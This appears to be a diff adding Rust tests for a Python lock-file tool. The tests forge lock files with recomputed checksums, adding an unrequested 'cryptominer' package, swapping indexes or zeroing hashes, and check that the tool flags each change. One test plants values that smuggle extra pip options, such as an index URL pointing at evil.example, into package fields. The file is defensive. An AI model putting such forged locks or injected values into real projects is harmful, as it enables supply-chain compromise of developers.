@@ -1,0 +1,139 @@
+//! Forged locks: the checksum is right, because whoever forges a lock computes it too. What the lock says is held
+//! against the manifest and the index.
+
+use sha2::{Digest, Sha256};
+
+use super::context::{IndexServer, Shape, TestContext};
+use super::wheels::{Wheel, wheel};
+
+const MANIFEST: &str = "[project]\nname = \"demo\"\npython = \">=3.10,<3.14\"\ndependencies = [\"pub<5\", \"corp-tool\"]\n\
+                        [[index]]\nname = \"corp\"\nurl = \"CORP\"\npackages = [\"corp-*\"]\n";
+
+fn releases() -> Vec<(&'static str, Wheel)> {
+    vec![
+        ("pypi", wheel("pub", "4.0").needs("base>=1")),
+        ("pypi", wheel("base", "1.5")),
+        ("pypi", wheel("cryptominer", "6.6")),
+        ("corp", wheel("corp-tool", "1.0").needs("base")),
+    ]
+}
+
+/// A locked project with a private package.
+fn locked() -> (IndexServer, TestContext) {
+    let server = IndexServer::start(releases(), Shape { json: true, metadata: true, ..Shape::default() });
+    let context = TestContext::with_index(&server);
+    context.write("envlock.toml", &MANIFEST.replace("CORP", &format!("{}/corp", server.address)));
+    context.run(&["resolve", "--gpu", "none", "--python", "3.12"]).expect(0);
+    context.run(&["resolve", "--locked"]).expect(0);
+    (server, context)
+}
+
+/// Writes the lock with changes, and with a checksum of them.
+fn forge(context: &TestContext, changes: &[(&str, &str)]) {
+    let text = context.read("envlock.lock");
+    let mut changed = text.clone();
+    for (from, to) in changes {
+        assert!(changed.contains(from), "{from} is not in\n{text}");
+        changed = changed.replacen(from, to, 1);
+    }
+    let body = changed[changed.find("registry = ").unwrap()..].to_owned();
+    let head = &changed[..changed.find("checksum = ").unwrap()];
+    let checksum = hex::encode(Sha256::digest(body.as_bytes()));
+    context.write("envlock.lock", &format!("{head}checksum = \"{checksum}\"\n{body}"));
+}
+
+const MINER: &str = "\n[[package]]\nname = \"cryptominer\"\nversion = \"6.6\"\nindex = \"pypi\"\nreason = \"asked\"\nfiles = [\n    \
+     { name = \"cryptominer-6.6-py3-none-any.whl\", sha256 = \"ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff\", \
+     hash-from = \"index\", size = 5 },\n]\n\n[[package]]\nname = \"pub\"";
+
+#[test]
+fn a_forged_answer_is_not_current_and_resolve_repairs_it() {
+    let (_server, context) = locked();
+    let honest = context.read("envlock.lock");
+    let pub_version: [(&str, &str); 2] =
+        [("version = \"4.0\"", "version = \"66.0\""), ("pub-4.0-py3", "pub-66.0-py3")];
+    let private: [(&str, &str); 1] = [("index = \"corp\"", "index = \"pypi\"")];
+    let cases: [(&[(&str, &str)], &str); 4] = [
+        (&pub_version, "the request has `pub<5`, but the lock has pub 66.0"),
+        (&[("\n[[package]]\nname = \"pub\"", MINER)], "the lock has cryptominer 6.6, which no request needs"),
+        (&private, "corp-tool 1.0 is locked from `pypi`, but the request takes it from the index `corp`"),
+        (&[("\"base>=1\"", "\"base>=2\"")], "pub 4.0 requires `base>=2`, but the lock has base 1.5"),
+    ];
+    for (changes, said) in cases {
+        context.write("envlock.lock", &honest);
+        forge(&context, changes);
+        let stale = context.run(&["resolve", "--locked"]).expect(1);
+        assert_eq!(stale.stdout.trim(), said, "{}", stale.shown());
+        assert_eq!(context.run(&["--json", "resolve", "--locked"]).expect(1).json()["reasons"][0], said);
+        context.run(&["resolve"]).expect(0);
+        context.run(&["resolve", "--locked"]).expect(0);
+    }
+}
+
+#[test]
+fn tree_and_diff_show_what_no_request_needs() {
+    let (_server, context) = locked();
+    context.write("old.lock", &context.read("envlock.lock"));
+    forge(&context, &[("\n[[package]]\nname = \"pub\"", MINER)]);
+    let tree = context.run(&["tree"]).expect(0);
+    assert!(tree.stdout.contains("needed by no request\n└── cryptominer 6.6"), "{}", tree.shown());
+    assert_eq!(context.run(&["--json", "tree"]).expect(0).json()["unneeded"][0], "cryptominer");
+    let diff = context.run(&["diff", "old.lock", "envlock.lock"]).expect(0);
+    assert!(
+        diff.stderr.contains("the new lock has cryptominer 6.6, which no request needs"),
+        "{}",
+        diff.shown()
+    );
+}
+
+#[test]
+fn hashes_are_compared_with_those_of_the_index() {
+    let (_server, context) = locked();
+    let same = context.run(&["resolve", "--check-hashes"]).expect(0);
+    assert!(same.stdout.contains("its hashes are those that the indexes state"), "{}", same.shown());
+    let text = context.read("envlock.lock");
+    let at = text.find("pub-4.0-py3-none-any.whl\", sha256 = \"").unwrap()
+        + "pub-4.0-py3-none-any.whl\", sha256 = \"".len();
+    let hash = text[at..at + 64].to_owned();
+    forge(&context, &[(hash.as_str(), &"0".repeat(64))]);
+    // Offline, nothing shows it: the lock is whole and answers the request.
+    context.run(&["resolve", "--locked"]).expect(0);
+    let other = context.run(&["resolve", "--check-hashes"]).expect(1);
+    assert!(
+        other.stdout.contains("the lock and the index `pypi` disagree on `pub-4.0-py3-none-any.whl`"),
+        "{}",
+        other.shown()
+    );
+    forge(&context, &[("pub-4.0-py3-none-any.whl", "pub-4.0-py2.py3-none-any.whl")]);
+    let absent = context.run(&["resolve", "--check-hashes"]).expect(1);
+    assert!(absent.stdout.contains("does not have `pub-4.0-py2.py3-none-any.whl`"), "{}", absent.shown());
+    // The hint repairs it.
+    context.run(&["resolve", "--upgrade"]).expect(0);
+    context.run(&["resolve", "--check-hashes"]).expect(0);
+}
+
+#[test]
+fn a_lock_that_injects_lines_is_refused_by_every_command() {
+    let (_server, context) = locked();
+    let honest = context.read("envlock.lock");
+    for (from, to) in [
+        ("name = \"pub\"", "name = \"good==1.0\\n--index-url http://evil.example/\\nx\""),
+        ("index = \"corp\"", "index = \"corp\\n--trusted-host x\""),
+        ("sha256 = \"", "sha256 = \"\\n--pre "),
+    ] {
+        context.write("envlock.lock", &honest);
+        forge(&context, &[(from, to)]);
+        for command in [
+            &["export", "requirements.txt"][..],
+            &["export", "pylock.toml"],
+            &["export", "environment.yml"],
+            &["export", "Dockerfile"],
+            &["resolve", "--locked"],
+            &["tree"],
+        ] {
+            let refused = context.run(command).expect(2);
+            assert!(refused.stderr.contains("the lock cannot be read"), "{}", refused.shown());
+            assert!(refused.stdout.is_empty(), "{}", refused.shown());
+        }
+    }
+}
